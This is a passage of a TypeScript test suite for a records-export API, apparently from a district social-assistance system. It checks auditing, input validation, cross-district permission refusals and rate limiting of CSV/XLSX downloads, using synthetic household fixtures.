      .find(AuditEntry, { operation: { $in: ['exportRecordList', 'downloadRecordList'] } }, { orderBy: { id: 'asc' }, populate: ['actor'], offset: before });
    expect(
      entries.map((entry) => ({
        operation: entry.operation,
        actor: entry.actor?.id,
        entity: [entry.entityName, entry.entityId],
        path: entry.regionPath,
        changes: JSON.parse(entry.changes!),
      })),
    ).toEqual(
      ['exportRecordList', 'downloadRecordList'].map((operation) => ({
        operation,
        actor: world.accounts.districtAdmin.id,
        entity: ['RecordList', 'CADRE_CASELOAD'],
        path: world.regions.pingshan.path,
        changes: { list: 'CADRE_CASELOAD', format: 'xlsx', cadreId: String(world.cadres.c1.id), roundId: String(world.roundId) },
      })),
    );
    expect(server.logs).toContainEqual(
      expect.objectContaining({ msg: 'record list downloaded', list: 'CADRE_CASELOAD', format: 'xlsx', rows: 2, aborted: false }),
    );
  });

  it('bad input names the field and writes nothing: a missing or foreign filter, a malformed or unknown id, an unknown list, a parameter twice', async () => {
    const before = await orm.em.fork().count(AuditEntry, { operation: { $in: ['exportRecordList', 'downloadRecordList'] } });
    const bad = (field: string) => ({ code: 'BAD_USER_INPUT', field });
    expect(await exportError(tokens.districtAnalyst, { list: 'CADRE_CASELOAD', format: 'CSV' })).toEqual(bad('input.cadreId'));
    expect(await exportError(tokens.districtAnalyst, { list: 'UNIT_CASELOAD', format: 'CSV', cadreId: String(world.cadres.c1.id) })).toEqual(
      bad('input.cadreId'),
    );
    expect(await exportError(tokens.districtAnalyst, { list: 'UNIT_CASELOAD', format: 'XLSX' })).toEqual(bad('input.unitId'));
    expect(await exportError(tokens.districtAdmin, { list: 'IMPORT_PROBLEMS', format: 'CSV' })).toEqual(bad('input.importId'));
    expect(await exportError(tokens.districtAnalyst, { list: 'COVERAGE_GAPS', format: 'CSV', roundId: String(world.roundId) })).toEqual(bad('input.roundId'));
    expect(await exportError(tokens.districtAnalyst, { list: 'COVERAGE_GAPS', format: 'CSV', regionId: 'abc' })).toEqual(bad('input.regionId'));
    expect(await exportError(tokens.districtAnalyst, { list: 'CADRE_CASELOAD', format: 'CSV', cadreId: '99999999' })).toEqual(bad('input.cadreId'));
    expect(await exportError(tokens.districtAnalyst, { list: 'UNIT_CASELOAD', format: 'CSV', unitId: '99999999' })).toEqual(bad('input.unitId'));
    expect(await exportError(tokens.districtAnalyst, { list: 'OVERDUE_VISITS', format: 'CSV', roundId: '99999999' })).toEqual(bad('input.roundId'));
    expect((await server.graphql(EXPORT, { input: { list: 'NOT_A_LIST', format: 'CSV' } }, tokens.districtAnalyst)).body.errors?.[0]?.extensions?.code).toBe(
      'BAD_USER_INPUT',
    );

    const http = (path: string) => fetch(`${server.url}${path}`, { headers: bearer(tokens.districtAnalyst) });
    expect(await refusal(await http('/exports/records/NOT_A_LIST.csv?ticket=x'))).toEqual({ status: 400, code: 'BAD_USER_INPUT', field: 'list' });
    expect(await refusal(await http('/exports/records/CADRE_CASELOAD.csv?ticket=x'))).toEqual({ status: 400, code: 'BAD_USER_INPUT', field: 'cadreId' });
    expect(await refusal(await http('/exports/records/COVERAGE_GAPS.csv?regionId=1&regionId=2&ticket=x'))).toEqual({
      status: 400,
      code: 'BAD_USER_INPUT',
      field: 'regionId',
    });
    expect(await refusal(await http('/exports/records/COVERAGE_GAPS.csv?targetGroup=NOBODY&ticket=x'))).toEqual({
      status: 400,
      code: 'BAD_USER_INPUT',
      field: 'targetGroup',
    });
    expect(await refusal(await http('/exports/records/COVERAGE_GAPS.csv?cadreId=1&ticket=x'))).toEqual({
      status: 400,
      code: 'BAD_USER_INPUT',
      field: 'cadreId',
    });
    expect(await orm.em.fork().count(AuditEntry, { operation: { $in: ['exportRecordList', 'downloadRecordList'] } })).toBe(before);
  });

  it('IMPORT_PROBLEMS: an import’s problems as dataImport answers its administrators; other districts and analysts FORBIDDEN', async () => {
    // The imports' test helpers speak to the app as support/server.ts's RunningApp does.
    const running = {
      url: server.url,
      graphql: async (query: string, variables?: Record<string, unknown>, headers: Record<string, string> = {}) =>
        (await server.post({ query, variables }, headers)).body,
    } as unknown as RunningApp;
    const header = [
      '户编号',
      '户主姓名',
      '户主身份证号',
      '地址',
      '所在村(社区)',
      '联系电话',
      '帮扶类别',
      '困难原因',
      '姓名',
      '与户主关系',
      '性别',
      '身份证号',
      '出生日期',
      '重点关注原因',
      '是否信访人',
    ];
    const person = (name: string, village: string, idNumber: string, phone = '') => [
      '',
      name,
      '',
      `东兴社区${name}家`,
      village,
      phone,
      '困难家庭',
      '',
      name,
      '户主',
      '',
      idNumber,
      '',
      '',
      '',
    ];
    const file = await xlsxOf([
      header,
      person('导入甲', '平山区/站前街道/东兴社区', validIdNumber('210502', '1961-02-03')),
      person('导入乙', '平山区/站前街道/东兴社区', '210502196102031234', '12345'),
      person('导入丙', '210503001001', validIdNumber('210502', '1962-02-03')),
      person('=导入丁', '不存在的社区', validIdNumber('210502', '1963-02-03')),
    ]);
    const adminHeaders = bearer(tokens.districtAdmin);
    const checked = await checkedImport(running, adminHeaders, 'HOUSEHOLDS', file);
    const expected = await problemsOf(running, adminHeaders, checked.id);
    expect(expected.length).toBeGreaterThanOrEqual(3);

    const { headers, rows, response } = await csvOf(tokens.districtAdmin, { list: 'IMPORT_PROBLEMS', importId: checked.id });
    expect(headers).toEqual(['行号', '列', '类别', '问题代码', '问题', '已接受', '其他地区登记情况']);
    expect(rows).toEqual(
      expected.map((problem) => [
        String(problem.rowNumber),
        problem.column ?? '',
        problem.severity === 'ERROR' ? '错误' : '提醒',
        problem.code,
        problem.message,
        problem.accepted ? '是' : '否',
        problem.elsewhere ?? '',
      ]),
    );
    const day = shanghaiDate(new Date());
    expect(response.headers.get('content-disposition')).toContain(`filename="wanjia-210502000000-import-problems-${checked.id}-${day}.csv"`);

    // Another district's administrator, and an analyst: FORBIDDEN at the export; a ticket signed for them opens nothing either.
    const em = orm.em.fork();
    const xihuAdmin = await createAccount(em, { role: Role.ADMIN, scopeRegion: world.regions.xihu, username: `lists-xihu-admin-${kind}` });
    const xihuToken = await tokenFor(xihuAdmin, TEST_JWT_SECRET);
    expect((await exportError(xihuToken, { list: 'IMPORT_PROBLEMS', format: 'CSV', importId: checked.id })).code).toBe('FORBIDDEN');
    const { ticket } = await signRecordListTicket(
      { accountId: xihuAdmin.id, sessionGeneration: 0, format: 'csv', query: `list=IMPORT_PROBLEMS&importId=${checked.id}` },
      TEST_JWT_SECRET,
    );
    const refused = await fetch(`${server.url}/exports/records/IMPORT_PROBLEMS.csv?importId=${checked.id}&ticket=${ticket}`, { headers: bearer(xihuToken) });
    expect(refused.status).toBe(403);
    // The city's administrators read it (their scope holds the district).
    expect((await csvOf(tokens.cityAdmin, { list: 'IMPORT_PROBLEMS', importId: checked.id })).rows).toHaveLength(expected.length);
  });

  it('each download is charged to the query budget like a figure sheet: past it, 429 with Retry-After, not audited', async () => {
    const limited = await startLoggedApp(orm, database, (config) => ({
      ...config,
      rateLimits: { ...config.rateLimits, enabled: true, queriesPerAccount: { points: RECORD_LIST_DOWNLOAD_COST + 500, durationSeconds: 600 } },
    }));
    try {
      const answer = await limited.graphql<{ exportRecordList: Download }>(EXPORT, { input: { list: 'COVERAGE_GAPS', format: 'CSV' } }, tokens.cityAnalyst);
      const url = answer.body.data!.exportRecordList.url;
      expect((await fetch(url, { headers: bearer(tokens.cityAnalyst) })).status).toBe(200);
      const audited = await orm.em.fork().count(AuditEntry, { operation: 'downloadRecordList' });
      const second = await fetch(url, { headers: bearer(tokens.cityAnalyst) });
      expect(second.status).toBe(429);
      expect(Number(second.headers.get('retry-after'))).toBeGreaterThan(0);
      expect(await orm.em.fork().count(AuditEntry, { operation: 'downloadRecordList' })).toBe(audited);
    } finally {
      await limited.close();
    }
  });
});
